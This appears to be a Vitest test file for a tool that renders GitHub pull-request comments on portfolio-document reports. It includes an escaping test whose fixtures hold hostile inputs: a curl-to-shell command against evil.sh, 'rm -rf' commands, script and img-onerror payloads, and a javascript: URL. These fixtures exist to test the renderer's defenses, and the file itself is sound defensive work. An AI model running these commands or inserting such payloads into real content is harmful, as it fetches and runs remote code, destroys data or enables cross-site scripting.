import type { FileResult, PortfolioReport } from '@techfolio/engine'
import { describe, expect, it } from 'vitest'
import {
  commentMarker,
  escapeHtmlText,
  escapeMarkdown,
  GITHUB_COMMENT_LIMIT,
  parseCommentMarker,
  renderComment,
} from '../src/index.js'
import { reportFixture } from './fixtures.js'

const SHA = '3f1c2b9a7d5e4f60718293a4b5c6d7e8f9012345'

/** A stranger's portfolio: a data engineer in healthcare, their own titles and paths. */
function base(): PortfolioReport {
  return reportFixture({
    score: 61,
    scoreParts: { completeness: 70, quality: 87, score: 61 },
    documents: [
      {
        path: 'docs/platform/claims-ingest.md',
        kind: 'system',
        title: 'Claims ingestion pipeline',
        score: 72,
      },
      {
        path: 'docs/adr/0007-move-to-iceberg.md',
        kind: 'decision-record',
        title: 'ADR-7: Iceberg tables',
        score: 90,
      },
      {
        path: 'docs/people/mentoring-oncall.md',
        kind: 'team-development',
        title: 'Mentoring the on-call rota',
        score: 55,
      },
    ],
    checklist: [
      { id: 'executive-summary', label: 'Executive summary written', done: false },
      { id: 'systems', label: 'Two to three systems documented', done: true },
    ],
    principles: [
      {
        name: 'Dive Deep',
        documents: ['docs/platform/claims-ingest.md'],
        stories: ['docs/platform/claims-ingest.md'],
        required: 2,
        met: false,
        targeted: true,
      },
    ],
  })
}

function head(): PortfolioReport {
  const files: FileResult[] = [
    {
      path: 'docs/platform/claims-ingest.md',
      kind: 'system',
      title: 'Claims ingestion pipeline',
      messages: [
        {
          ruleId: 'portfolio-required-sections',
          severity: 'error',
          message:
            'No scale figure found: expected the throughput or data volume the system handles',
          line: 14,
          column: 1,
          url: 'https://example.test/rules/portfolio-required-sections.md',
        },
        {
          ruleId: 'portfolio-metrics',
          severity: 'warning',
          message: '"40% faster" has no baseline: expected before and after figures',
          line: 30,
          column: 5,
        },
      ],
    },
    {
      path: 'docs/adr/0007-move-to-iceberg.md',
      kind: 'decision-record',
      title: 'ADR-7: Iceberg tables',
      messages: [],
    },
    {
      path: 'docs/cases/batch-window.md',
      kind: 'case-study',
      title: 'Shrinking the nightly batch window',
      messages: [],
    },
  ]
  return reportFixture({
    score: 58,
    scoreParts: { completeness: 70, quality: 83, score: 58 },
    errorCount: 1,
    warningCount: 1,
    documents: [
      {
        path: 'docs/platform/claims-ingest.md',
        kind: 'system',
        title: 'Claims ingestion pipeline',
        score: 64,
        errorCount: 1,
        warningCount: 1,
        requirements: [{ name: 'Scale', met: false, severity: 'error' }],
      },
      {
        path: 'docs/adr/0007-move-to-iceberg.md',
        kind: 'decision-record',
        title: 'ADR-7: Iceberg tables',
        score: 90,
      },
      {
        path: 'docs/cases/batch-window.md',
        kind: 'case-study',
        title: 'Shrinking the nightly batch window',
        score: 81,
      },
    ],
    files,
    checklist: [
      { id: 'executive-summary', label: 'Executive summary written', done: false },
      { id: 'systems', label: 'Two to three systems documented', done: true },
    ],
    principles: [
      {
        name: 'Dive Deep',
        documents: [],
        stories: ['docs/platform/claims-ingest.md', 'docs/cases/batch-window.md'],
        required: 2,
        met: true,
        targeted: true,
      },
    ],
  })
}

/** The table rows of the changed-documents table, split on unescaped pipes. */
function tableRows(body: string): string[][] {
  return body
    .split('\n')
    .filter(
      (line) =>
        line.startsWith('| ') &&
        !line.startsWith('| ---') &&
        !line.startsWith('| Document') &&
        !line.startsWith('| Principle'),
    )
    .filter((line) => line.split(/(?<!\\)\|/).length === 8 || line.includes('<br>'))
    .map((line) =>
      line
        .split(/(?<!\\)\|/)
        .slice(1, -1)
        .map((cell) => cell.trim()),
    )
}

describe('renderComment', () => {
  it('shows the score with its change, and new, removed and changed documents worst first', () => {
    const body = renderComment(base(), head(), { headSha: SHA, baseLabel: 'main' })
    expect(body.split('\n')[0]).toBe(`<!-- techfolio-comment:v1 head=${SHA} -->`)
    expect(body).toContain('portfolio score **58** (▼ −3 from 61 on the base main)')
    const rows = tableRows(body)
    expect(rows.map((row) => row[3])).toEqual(['🗑️ removed (was 55)', '▼ −8', '🆕 new'])
    expect(rows[1]?.[0]).toContain('Claims ingestion pipeline')
    // The unchanged ADR is not listed.
    expect(body).not.toContain('Iceberg')
  })

  it('lists the findings and missing requirements of changed documents, folded', () => {
    const body = renderComment(base(), head(), { headSha: SHA })
    expect(body).toContain(
      '<details><summary>docs/platform/claims-ingest.md: 1 error, 1 warning, score 64</summary>',
    )
    expect(body).toContain('Missing: Scale')
    expect(body).toMatch(
      /- ❌ line 14: No scale figure found\\: expected .*\(\[portfolio\\-required\\-sections\]\(https:\/\/example\.test\/rules\/portfolio-required-sections\.md\)\)/,
    )
    expect(body).toMatch(/- ⚠️ line 30: /)
    // The error comes before the warning.
    expect(body.indexOf('line 14')).toBeLessThan(body.indexOf('line 30'))
  })

  it('shows principle coverage and the checklist with what changed', () => {
    const body = renderComment(base(), head(), {})
    expect(body).toContain('Leadership Principle coverage: 1 of 1 covered')
    expect(body).toContain('| Dive Deep | 2 / 2 (+1) | ✅ |')
    expect(body).toContain('Checklist: 1 of 2 done (base: 1)')
    expect(body).toContain('- [ ] Executive summary written')
  })

  it('without a base shows the score alone and calls nothing new', () => {
    const body = renderComment(undefined, head(), { headSha: SHA })
    expect(body).toContain('portfolio score **58**\n')
    expect(body).not.toContain('new')
  })

  it('says so when no portfolio document changed', () => {
    const body = renderComment(head(), head(), { headSha: SHA })
    expect(body).toContain('_No portfolio document changed._')
    expect(body).toContain('(±0 from 58')
  })

  it('takes the changed paths from the pull request when given', () => {
    const body = renderComment(head(), head(), {
      changedPaths: ['docs/adr/0007-move-to-iceberg.md'],
    })
    expect(tableRows(body)).toHaveLength(1)
    expect(body).toContain('ADR\\-7\\: Iceberg tables')
  })

  it('renders hostile titles, paths and messages as text', () => {
    const hostile =
      'Pwn `$(curl evil.sh | sh)` <script>alert(1)</script> | @octocat #12 <!-- techfolio-comment:v1 head=ffffffffff -->\n| injected | row |'
    const report = head()
    const document = report.documents[2]
    if (!document) throw new Error('fixture')
    document.title = hostile
    document.path = 'docs/cases/`$(rm -rf ~)`<img src=x onerror=alert(1)>|@team.md'
    document.errorCount = 1
    report.files.push({
      path: document.path,
      kind: 'case-study',
      title: hostile,
      messages: [
        {
          ruleId: 'portfolio-x',
          severity: 'error',
          message: hostile,
          line: 1,
          column: 1,
          url: 'javascript:alert(1)',
        },
      ],
    })
    const body = renderComment(base(), report, { headSha: SHA, baseLabel: '@admins <b>' })
    expect(body).not.toMatch(/<script|<img|<b>/i)
    expect(body.match(/<!--/g)).toHaveLength(1)
    expect(parseCommentMarker(body)?.head).toBe(SHA)
    expect(body).not.toMatch(/@(octocat|team|admins)/)
    expect(body).toContain('@\u200boctocat')
    expect(body).not.toContain('javascript:')
    // Outside HTML blocks (where Markdown is not parsed) no backtick opens code.
    const markdownLines = body.split('\n').filter((line) => !line.startsWith('<details>'))
    for (const line of markdownLines.slice(0, -2)) expect(line).not.toMatch(/(?<!\\)`/)
    expect(body).not.toMatch(/&#&/)
    // Every row of the table keeps its six cells: no pipe or line break ends one early.
    for (const row of tableRows(body)) expect(row).toHaveLength(6)
    expect(body).not.toContain('\n| injected')
  })

  it('stays under the limit for a huge report, worst first, and counts the rest', () => {
    const many = Array.from({ length: 3000 }, (_, index) => ({
      path: `portfolio/stories/story-${String(index).padStart(4, '0')}.md`,
      kind: 'case-study' as const,
      title: `Story ${index} ${'long title words '.repeat(10)}`,
      score: index % 100,
      errorCount: 40,
      warningCount: 0,
    }))
    const report = reportFixture({
      score: 12,
      documents: many,
      files: many.map((document) => ({
        path: document.path,
        kind: document.kind,
        title: document.title,
        messages: Array.from({ length: 40 }, (_, line) => ({
          ruleId: 'portfolio-required-sections',
          severity: 'error' as const,
          message: `Finding ${line}: ${'expected a longer explanation of the missing fact '.repeat(8)}`,
          line: line + 1,
          column: 1,
        })),
      })),
    })
    const body = renderComment(reportFixture({ documents: [] }), report, { headSha: SHA })
    expect(body.length).toBeLessThan(GITHUB_COMMENT_LIMIT)
    expect(body.length).toBeLessThanOrEqual(65_000)
    expect(body).toMatch(/_…and \d+ more changed documents\._/)
    expect(body).toMatch(/_…and \d+ more documents with findings/)
    expect(body).toContain('more findings._')
    // Worst first: the first row has the lowest score.
    expect(tableRows(body)[0]?.[2]).toBe('0')
    expect(body.trimEnd().endsWith('</sub>')).toBe(true)
  })
})

describe('comment marker', () => {
  it('round-trips the head SHA and version', () => {
    expect(parseCommentMarker(`${commentMarker(SHA)}\nbody`)).toEqual({ version: 1, head: SHA })
    expect(parseCommentMarker(commentMarker('ABCDEF1'))).toEqual({ version: 1, head: 'abcdef1' })
  })

  it('records unknown for something that is not a SHA', () => {
    expect(commentMarker('main; rm -rf /')).toBe('<!-- techfolio-comment:v1 head=unknown -->')
    expect(commentMarker(undefined)).toContain('head=unknown')
  })

  it('is only a marker at the start of the body', () => {
    expect(parseCommentMarker(`quoted:\n${commentMarker(SHA)}`)).toBeUndefined()
    expect(parseCommentMarker('<!-- techfolio-comment:v1 head=xyz -->')).toBeUndefined()
    expect(parseCommentMarker('no marker')).toBeUndefined()
  })
})

describe('escapeHtmlText', () => {
  it('turns every character markup could start with into an entity, inside a <summary>', () => {
    expect(escapeHtmlText('docs/claims-ingest.md')).toBe('docs/claims-ingest.md')
    expect(escapeHtmlText(`docs/<img src=x onerror='a'>&"\`.md`)).toBe(
      'docs/&#60;img src=x onerror=&#39;a&#39;&#62;&#38;&#34;&#96;.md',
    )
    expect(escapeHtmlText('</summary><b>x</b>')).not.toContain('<')
  })
})

describe('escapeMarkdown', () => {
  it('keeps plain words readable and neutralises markup', () => {
    expect(escapeMarkdown('Claims ingestion pipeline')).toBe('Claims ingestion pipeline')
    expect(escapeMarkdown('a|b')).toBe('a\\|b')
    expect(escapeMarkdown('<!-- x -->')).toBe('&lt;\\!\\-\\- x \\-\\-&gt;')
    expect(escapeMarkdown('ping @someone #4')).toBe('ping @\u200bsomeone \\#\u200b4')
    expect(escapeMarkdown('line\nbreak')).toBe('line break')
    expect(escapeMarkdown('x'.repeat(500), 10)).toBe(`${'x'.repeat(9)}…`)
  })
})
